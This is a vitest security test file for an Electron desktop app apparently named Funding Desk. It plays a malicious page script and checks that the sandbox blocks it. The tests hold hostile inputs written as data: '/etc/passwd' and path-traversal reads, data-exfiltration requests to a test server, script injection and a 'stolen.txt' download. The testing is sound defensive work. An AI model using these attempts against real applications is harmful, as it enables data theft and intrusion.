// @module-tag journey

import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { projectFolder } from '../../build/runtime/cache.mjs'
import { fillApplication, startApplication } from '../../build/demo/journey.ts'
import { contract } from '../../src-shared/app/contract.ts'
import { msg } from '../../src-shared/platform/texts/msg.ts'
import { Cleanup } from '../support/cleanup.ts'
import { firstWord, READING } from '../support/channel-verbs.ts'
import { TestEnvironment } from '../support/e2e/environment.ts'
import { secretsOf } from '../support/e2e/secrets.ts'
import { welcomingServer } from '../support/e2e/welcoming-server.ts'

// In these tests, the page's script is an attacker with all rights of the app's own script. docs/security.md describes these rights.

/** Upper bound for the time that a request in transit needs to reach a server on this computer. */
const LONG_ENOUGH_MS = 300
/** All permissions that a page of this Chromium can query by name. Chromium throws an error for a name that it does not know. */
const PERMISSIONS = (
  'geolocation notifications camera microphone clipboard-read clipboard-write midi background-sync persistent-storage ' +
  'display-capture idle-detection local-fonts screen-wake-lock storage-access top-level-storage-access window-management ' +
  'accelerometer gyroscope magnetometer payment-handler periodic-background-sync keyboard-lock pointer-lock'
).split(' ')
const UNKNOWN = '00000000-0000-4000-8000-000000000000'

describe('a malicious script in the app’s own page', () => {
  let environment: TestEnvironment
  let deal_id: string
  beforeAll(async () => {
    environment = await TestEnvironment.openSetUp()
    await startApplication(environment.page)
    await fillApplication(environment.page)
    // Get the id of the deal that contains the sensitive numbers.
    deal_id = new URL(environment.page.url()).hash.split('/').find((part) => part.length === 36) ?? ''
  })
  afterAll(() => environment.close())
  const cleanup = new Cleanup()
  afterAll(() => cleanup.run())

  const inPage = <T>(expression: string) => environment.page.evaluate<T>(expression)
  const call = <T = { ok: boolean; error?: { code: string; message: unknown } }>(
    channel: string,
    input: unknown,
    shown = 'sandbox',
  ) => inPage<T>(`fundingDesk.call(${[channel, input, shown].map((sent) => JSON.stringify(sent)).join()})`)
  /**
   * Runs an attempt and returns its result. A timer of the page starts the attempt, because the page's content policy would not limit code
   * that the inspector runs.
   */
  const attempt = (code: string) =>
    inPage<string>(`new Promise((done) => setTimeout(async () => {
      try { done(String(await (${code}))) } catch (error) { done(error.name) }
    }))`)

  it('has neither Node nor Electron, only three functions', async () => {
    const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname']
    expect(await inPage(`[${names.map((name) => `typeof ${name}`).join()}]`)).toEqual(
      names.map(() => 'undefined'),
    )
    expect(await inPage('Object.keys(fundingDesk).sort()')).toEqual(['call', 'on', 'registerFiles'])
    // An event listener receives only the event's data, and no Electron object.
    await inPage(
      `void fundingDesk.on('screen.locked', (...given) => { window.heard = JSON.stringify(given) })`,
    )
    await environment.app.application.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.webContents.send('event', 'screen.locked', {}),
    )
    await expect.poll(() => inPage('window.heard')).toBe('[{}]')
  })

  it('can neither replace nor extend the functions of the preload, nor run code text through them', async () => {
    const replaced = await inPage(`(() => {
      const { call } = fundingDesk
      try { fundingDesk.call = () => 'mine' } catch {}
      try { fundingDesk.more = 1 } catch {}
      try { window.fundingDesk = { call: () => 'mine' } } catch {}
      return [fundingDesk.call === call, 'more' in fundingDesk, Object.isFrozen(fundingDesk)]
    })()`)
    expect(replaced).toEqual([true, false, true])
    expect(await attempt('fundingDesk.call.constructor("return typeof process")()')).toBe('EvalError')
  })

  it('cannot affect the preload by changing JavaScript built-ins', async () => {
    const said = await inPage<string>(`(async () => {
      const kept = [Set.prototype.has, Array.prototype.map, Promise.reject]
      Set.prototype.has = () => true
      Array.prototype.map = () => ['/etc/passwd']
      Promise.reject = () => Promise.resolve('let through')
      try {
        const answers = await Promise.all([
          fundingDesk.call('files.register', ['/etc/passwd']).catch(({ message }) => message),
          fundingDesk.registerFiles([]),
        ])
        return JSON.stringify(answers)
      } finally {
        [Set.prototype.has, Array.prototype.map, Promise.reject] = kept
      }
    })()`)
    expect(said).toContain('no such channel')
    expect(said).not.toMatch(/let through|file_id|passwd/)
  })

  it('cannot use a channel or event outside the contract, or register a file by its path', async () => {
    for (const channel of [
      'vault.query',
      'files.register',
      '__proto__',
      'constructor',
      '',
      'ELECTRON_BROWSER',
    ])
      await expect(call(channel, ['/etc/passwd'])).rejects.toThrow('no such channel')
  })

  it('gets an error for invalid ids and for file paths', async () => {
    for (const [channel, input] of [
      ['deals.get', { deal_id: '../../etc' }],
      ['documents.attach', { deal_id, files: [{ file_id: '/etc/passwd' }] }],
      ['documents.attach', { deal_id, files: [{ path: '/etc/passwd' }] }],
      ['drafts.preview_import', { file_id: 'file:///etc/passwd' }],
      ['vault.restore', { file_id: '../vault.db' }],
    ] as const)
      expect(await call(channel, input)).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } })
  })

  it('cannot send an application or change a connection without the name of the open environment', async () => {
    const badges = ['', ', null', ', "production"', ', "demo"', ', ["sandbox"]']
    const inputs = { 'relay.forget': {}, 'webhooks.register': {}, 'submission.submit': { deal_id } }
    const calls = Object.entries(inputs).flatMap(([channel, input]) =>
      badges.map((badge) => `fundingDesk.call('${channel}', ${JSON.stringify(input)}${badge})`),
    )
    const answers = await inPage(`Promise.all([${calls.join()}])`)
    expect(answers).toMatchObject(calls.map(() => ({ error: { code: 'ENVIRONMENT_CHANGED' } })))
    expect(await call('environment.get', {})).toMatchObject({ value: { relay_paired: true } })
    expect(await call('deals.get', { deal_id })).toMatchObject({ value: { state: 'draft' } })
  })

  it('gets an error for malformed input on every channel, and the app keeps working', async () => {
    const said = await inPage<string[]>(`(async () => {
      const cycle = {}
      cycle.self = cycle
      let deep = {}
      for (let i = 0; i < 500; i++) deep = [deep]
      const values = [null, 7, NaN, true, 'x'.repeat(100000), [], [cycle], deep]
      const asked = ${JSON.stringify(Object.keys(contract))}.flatMap((channel) =>
        values.map((value) => fundingDesk.call(channel, value).then(
          ({ error }) => [channel, error?.code ?? 'ok'].join(' '),
          (refused) => [channel, refused.message].join(' '))))
      return Promise.all(asked)
    })()`)
    expect(said).toHaveLength(Object.keys(contract).length * 8)
    const expected = / (INVALID_INPUT|An object could not be cloned\.)$/
    expect(said.filter((line) => !expected.test(line))).toEqual([])
    expect(await call('app.info', {})).toMatchObject({ ok: true })
  })

  it('cannot read a file that the broker did not pick, by an invented id or by a script-made file', async () => {
    const [made] = await inPage<{ value: { file_id: string }[] }>(
      'fundingDesk.registerFiles([new File(["%PDF-1.7"], "/etc/passwd")])',
    ).then(({ value }) => value)
    for (const file_id of [UNKNOWN, made?.file_id]) {
      const attached = await call('documents.attach', { deal_id, files: [{ file_id }] })
      expect(attached).toMatchObject({ ok: true, value: [{ attached: false }] })
      expect((await call('drafts.preview_import', { file_id })).ok).toBe(false)
      expect((await call('vault.restore', { file_id })).ok).toBe(false)
    }
  })

  it('reaches no other origin with any kind of request, although the server would respond', async () => {
    const other = await welcomingServer(cleanup)
    const at = (way: string) => JSON.stringify(`${other.origin}/${way}?what-the-page-knows`)
    const by = (made: string) => `new Promise((yes, no) => {
      const one = ${made}
      one.onload = one.onopen = one.onmessage = () => yes('reached')
      one.onerror = () => no(new TypeError())
    })`
    const element = (name: string, set: string) =>
      by(`Object.assign(document.head.appendChild(document.createElement('${name}')), ${set})`)
    const nonce = `document.querySelector('meta[name="csp-nonce"]').content`
    const said = await Promise.all(
      [
        `fetch(${at('fetch')}).then(({ status }) => status)`,
        `fetch(${at('blind')}, { mode: 'no-cors', method: 'POST', body: 'x' }).then(({ type }) => type)`,
        by(`new EventSource(${at('events')})`),
        by(`new WebSocket(${at('socket').replace('http', 'ws')})`),
        by(`Object.assign(new Image(), { src: ${at('image')} })`),
        element('script', `{ src: ${at('script')} }`),
        // The policy allows this link element, because it has the nonce of the page's own styles. The app must block its request
        // nevertheless.
        element('link', `{ nonce: ${nonce}, rel: 'stylesheet', href: ${at('style')} }`),
        element('video', `{ src: ${at('video')} }`),
        'fetch("file:///etc/passwd").then(({ status }) => status)',
        'fetch("app://elsewhere/index.html").then((answer) => { if (!answer.ok) throw new TypeError() })',
      ].map(attempt),
    )
    expect(said).toEqual(said.map(() => 'TypeError'))
    await attempt(`(() => {
      navigator.sendBeacon(${at('beacon')}, 'x')
      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: ${at('prefetch')} }))
      const click = Object.assign(document.createElement('a'), { href: '#/', ping: ${at('ping')} })
      document.body.append(click)
      click.click()
      click.remove()
    })()`)
    await sleep(LONG_ENOUGH_MS)
    expect(other.asked).toEqual([])
  })

  it('gets only the page’s files from the app’s own address', async () => {
    for (const path of [
      '../main/index.cjs',
      '..%2f..%2fpackage.json',
      '%2e%2e/%2e%2e/package.json',
      'C:/x.json',
    ])
      expect(await attempt(`fetch(${JSON.stringify(`/${path}`)}).then(({ status }) => status)`)).toBe('404')
  })

  it('cannot run another script: remote, inline, evaluated, in a worker, or in a frame', async () => {
    expect(await attempt('new Function("return 1")()')).toBe('EvalError')
    expect(await attempt('eval("1")')).toBe('EvalError')
    // A worker's policy allows compiling WebAssembly; the page's policy does not.
    const empty = 'new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])'
    expect(await attempt(`WebAssembly.compile(${empty})`)).toBe('CompileError')
    const worker = await attempt(`new Promise((done) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      worker.onmessage = () => done('ran')
      worker.onerror = () => done('refused')
    })`)
    expect(worker).toMatch(/^(refused|SecurityError)$/)
    const ran = await attempt(`new Promise((done) => {
      const add = (set) => { const s = document.createElement('script'); set(s); document.head.append(s) }
      add((s) => { s.textContent = 'window.ran = "inline"' })
      add((s) => { s.src = 'data:text/javascript,window.ran="data"' })
      add((s) => { s.src = URL.createObjectURL(new Blob(['window.ran = "blob"'])) })
      add((s) => { s.src = ${JSON.stringify(environment.sandbox.jwks_url)} })
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.ran = "handler"')
      document.body.append(button)
      button.click()
      const frame = document.createElement('iframe')
      frame.srcdoc = '<script>parent.ran = "frame"</script>'
      document.body.append(frame)
      setTimeout(() => { button.remove(); frame.remove(); done(window.ran ?? 'nothing') }, 300)
    })`)
    expect(ran).toBe('nothing')
  })

  it('is limited by a content security policy that allows only app files, and styles with a nonce of the current page load', async () => {
    const policyOf = () =>
      inPage<string>('fetch("/index.html").then(({ headers }) => headers.get("content-security-policy"))')
    const policy = await policyOf()
    expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self' 'nonce-")
    expect(policy).not.toMatch(/unsafe|\*|https?:/)
    expect(await policyOf()).not.toBe(policy)
    // A page can load any file as a worker's script. Therefore every file except the page itself gets the worker policy.
    const other = await inPage<string>(`fetch([...document.scripts].find(({ src }) => src !== '').src)
      .then(({ headers }) => headers.get('content-security-policy'))`)
    expect(other).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'")
  })

  it('runs with safe window preferences, even in a window that a link to a deal opens', async () => {
    const opened = environment.app.application.waitForEvent('window')
    // The page that calls `window.open` gets no reference to the new window.
    expect(await inPage(`window.open('#/deals/${deal_id}', '', 'nodeIntegration=yes,sandbox=no')`)).toBeNull()
    const second = await opened
    await second.locator('[data-path="company.legal_name"]').waitFor()
    const all = await environment.app.application.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => {
        // Electron's types do not declare `getLastWebPreferences`.
        const page = webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }
        return page.getLastWebPreferences()
      }),
    )
    await second.close()
    expect(all).toHaveLength(2)
    for (const preferences of all) {
      expect(preferences).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false })
      const effective = ['webSecurity', 'allowRunningInsecureContent', 'experimentalFeatures', 'webviewTag']
      expect(effective.map((name) => preferences[name] ?? null)).toEqual([true, false, false, false])
      for (const name of ['enableBlinkFeatures', 'nodeIntegrationInSubFrames', 'nodeIntegrationInWorker'])
        expect(preferences[name], name).toBeFalsy()
    }
  })

  it('can neither navigate away nor open a window of another address', async () => {
    const other = await welcomingServer(cleanup)
    const before = environment.page.url()
    const places = [`${other.origin}/go`, 'file:///etc/passwd', 'data:text/html,x', 'javascript:1']
    for (const place of places) {
      const to = JSON.stringify(place)
      await inPage(`void window.open(${to})`)
      await inPage(`void (location.href = ${to})`).catch(() => {})
      await sleep(LONG_ENOUGH_MS)
    }
    await inPage(`(() => {
      const form = document.createElement('form')
      form.action = '${other.origin}/form'
      document.body.append(form)
      form.submit()
      form.remove()
    })()`)
    await sleep(LONG_ENOUGH_MS)
    expect(other.asked).toEqual([])
    expect(await inPage('typeof fundingDesk.call')).toBe('function')
    expect(environment.page.url()).toBe(before)
    expect(environment.app.application.windows()).toHaveLength(1)
  })

  it('saves no download, in any session and by any method', async () => {
    const started = await environment.app.application.evaluate(async ({ BrowserWindow, session }) => {
      const refused: boolean[] = []
      Object.assign(globalThis, { refused })
      const page = BrowserWindow.getAllWindows()[0]?.webContents
      const inMemory = session.fromPartition('made-later')
      for (const watched of [session.defaultSession, inMemory])
        watched.on('will-download', (event) => refused.push(event.defaultPrevented))
      inMemory.downloadURL('data:text/plain,main')
      return page?.session === session.defaultSession
    })
    expect(started).toBe(true)
    await inPage(`(() => {
      const link = document.createElement('a')
      link.download = 'stolen.txt'
      link.href = URL.createObjectURL(new Blob(['what the page knows']))
      document.body.append(link)
      link.click()
      link.remove()
    })()`)
    const refused = () =>
      environment.app.application.evaluate(() => (globalThis as unknown as { refused: boolean[] }).refused)
    await expect.poll(refused).toEqual([true, true])
  })

  it('gets no permission except writing to the clipboard', async () => {
    const states = await inPage<Record<string, string>>(`Promise.all(${JSON.stringify(PERMISSIONS)}.map(
      (name) => navigator.permissions.query({ name }).then(({ state }) => [name, state], () => [name, 'unknown']),
    )).then(Object.fromEntries)`)
    const given = Object.keys(states).filter(
      (name) => states[name] !== 'denied' && states[name] !== 'unknown',
    )
    expect(given).toEqual(['clipboard-write'])
    expect(Object.values(states).filter((state) => state === 'denied').length).toBeGreaterThan(10)
    expect(await attempt('Notification.requestPermission()')).toBe('denied')
    expect(await attempt('navigator.clipboard.readText()')).toBe('NotAllowedError')
  })

  it('gets no keychain secret from any channel that reads data', async () => {
    const secrets = await secretsOf(environment)
    const reading = Object.keys(contract).filter((channel) => READING.includes(firstWord(channel)))
    expect(reading.length).toBeGreaterThan(30)
    const inputs = [
      {},
      { search: '' },
      { profile_json: '{}' },
      { window_id: UNKNOWN, shown: false },
      { is_open: true },
      { deal_id, number: 1 },
      { deal_id, of: { account_id: 'unknown' } },
      {
        ...{ deal_id, filter: 'all', before: null, deal_ids: [deal_id], period: 'all' },
        ...{ search: '', where: {}, sort: 'newest', reversed: false, offset: 0, limit: 10 },
        ...{ document_id: UNKNOWN, from: 0, length: 1, file_id: UNKNOWN, import_id: UNKNOWN },
      },
    ]
    const answers = await Promise.all(
      reading.map((channel) => Promise.all(inputs.map((input) => call(channel, input)))),
    )
    // The router must have accepted at least one input of each channel. Otherwise the test would check only the router's validation.
    const refused = JSON.stringify(msg.errors.notUnderstood)
    const unasked = reading.filter((_, at) =>
      answers[at]?.every(({ error }) => JSON.stringify(error?.message) === refused),
    )
    expect(unasked).toEqual([])
    expect(answers.flat().filter(({ ok }) => ok).length).toBeGreaterThan(15)
    const said = JSON.stringify(answers)
    expect(said).toContain('3456')
    for (const [kind, secret] of Object.entries(secrets)) expect(said.includes(secret), kind).toBe(false)
    expect(said).not.toContain('900123456')
    expect(said).not.toContain('900-12-3456')
    // Also, no response contains an access token of the partner (a JWT).
    expect(said).not.toMatch(/eyJ[\w-]{10,}\.[\w-]{10,}\./)
  })

  it('cannot call a channel from a window that the app did not open, even with the preload and address of the app', async () => {
    const codes = await environment.app.application.evaluate(
      async ({ BrowserWindow }, [preload, ours]) => {
        const said: unknown[] = []
        for (const url of ['data:text/html,stranger', ours as string]) {
          const window = new BrowserWindow({
            show: false,
            webPreferences: { preload: preload as string, sandbox: true },
          })
          await window.loadURL(url)
          said.push(
            await window.webContents.executeJavaScript(
              'fundingDesk.call("environment.get", {}).then(({ error }) => error?.code)',
            ),
          )
          window.destroy()
        }
        return said
      },
      [join(projectFolder, 'out/preload/index.cjs'), environment.page.url()],
    )
    expect(codes).toEqual(['FORBIDDEN_SENDER', 'FORBIDDEN_SENDER'])
  })

  it('cannot call a channel from a window of the app that shows another page', async () => {
    const code = await environment.app.application.evaluate(async ({ BrowserWindow }) => {
      const page = BrowserWindow.getAllWindows()[0]?.webContents
      if (page === undefined) throw new Error('There is no window.')
      const home = page.getURL()
      // Remove the listeners that make the app navigate back. Otherwise the app could navigate back before the blank page makes its call.
      const leadBack = page.listeners('did-navigate')
      page.removeAllListeners('did-navigate')
      await page.loadURL('about:blank')
      const said: unknown = await page.executeJavaScript(
        'fundingDesk.call("environment.get", {}).then(({ error }) => error?.code)',
      )
      for (const listener of leadBack) page.on('did-navigate', listener as () => void)
      await page.loadURL(home)
      return said
    })
    expect(code).toBe('FORBIDDEN_SENDER')
    await environment.page.getByRole('link', { name: 'Pipeline', exact: true }).waitFor()
  })

  it('may reload the app’s own page', async () => {
    await inPage('void (window.before = true)')
    await inPage('void location.reload()').catch(() => {})
    await environment.page.getByRole('link', { name: 'Pipeline', exact: true }).waitFor()
    expect(await inPage('typeof before')).toBe('undefined')
  })

  it('cannot open an empty page in a new window, and the page of the app returns after navigation to an empty page', async () => {
    await inPage('void window.open("about:blank")')
    expect(environment.app.application.windows()).toHaveLength(1)
    await inPage('void (location.href = "about:blank")').catch(() => {})
    await environment.page.getByRole('link', { name: 'Pipeline', exact: true }).waitFor()
    expect(environment.page.url()).toMatch(/^app:\/\/funding-desk\//)
  })
})
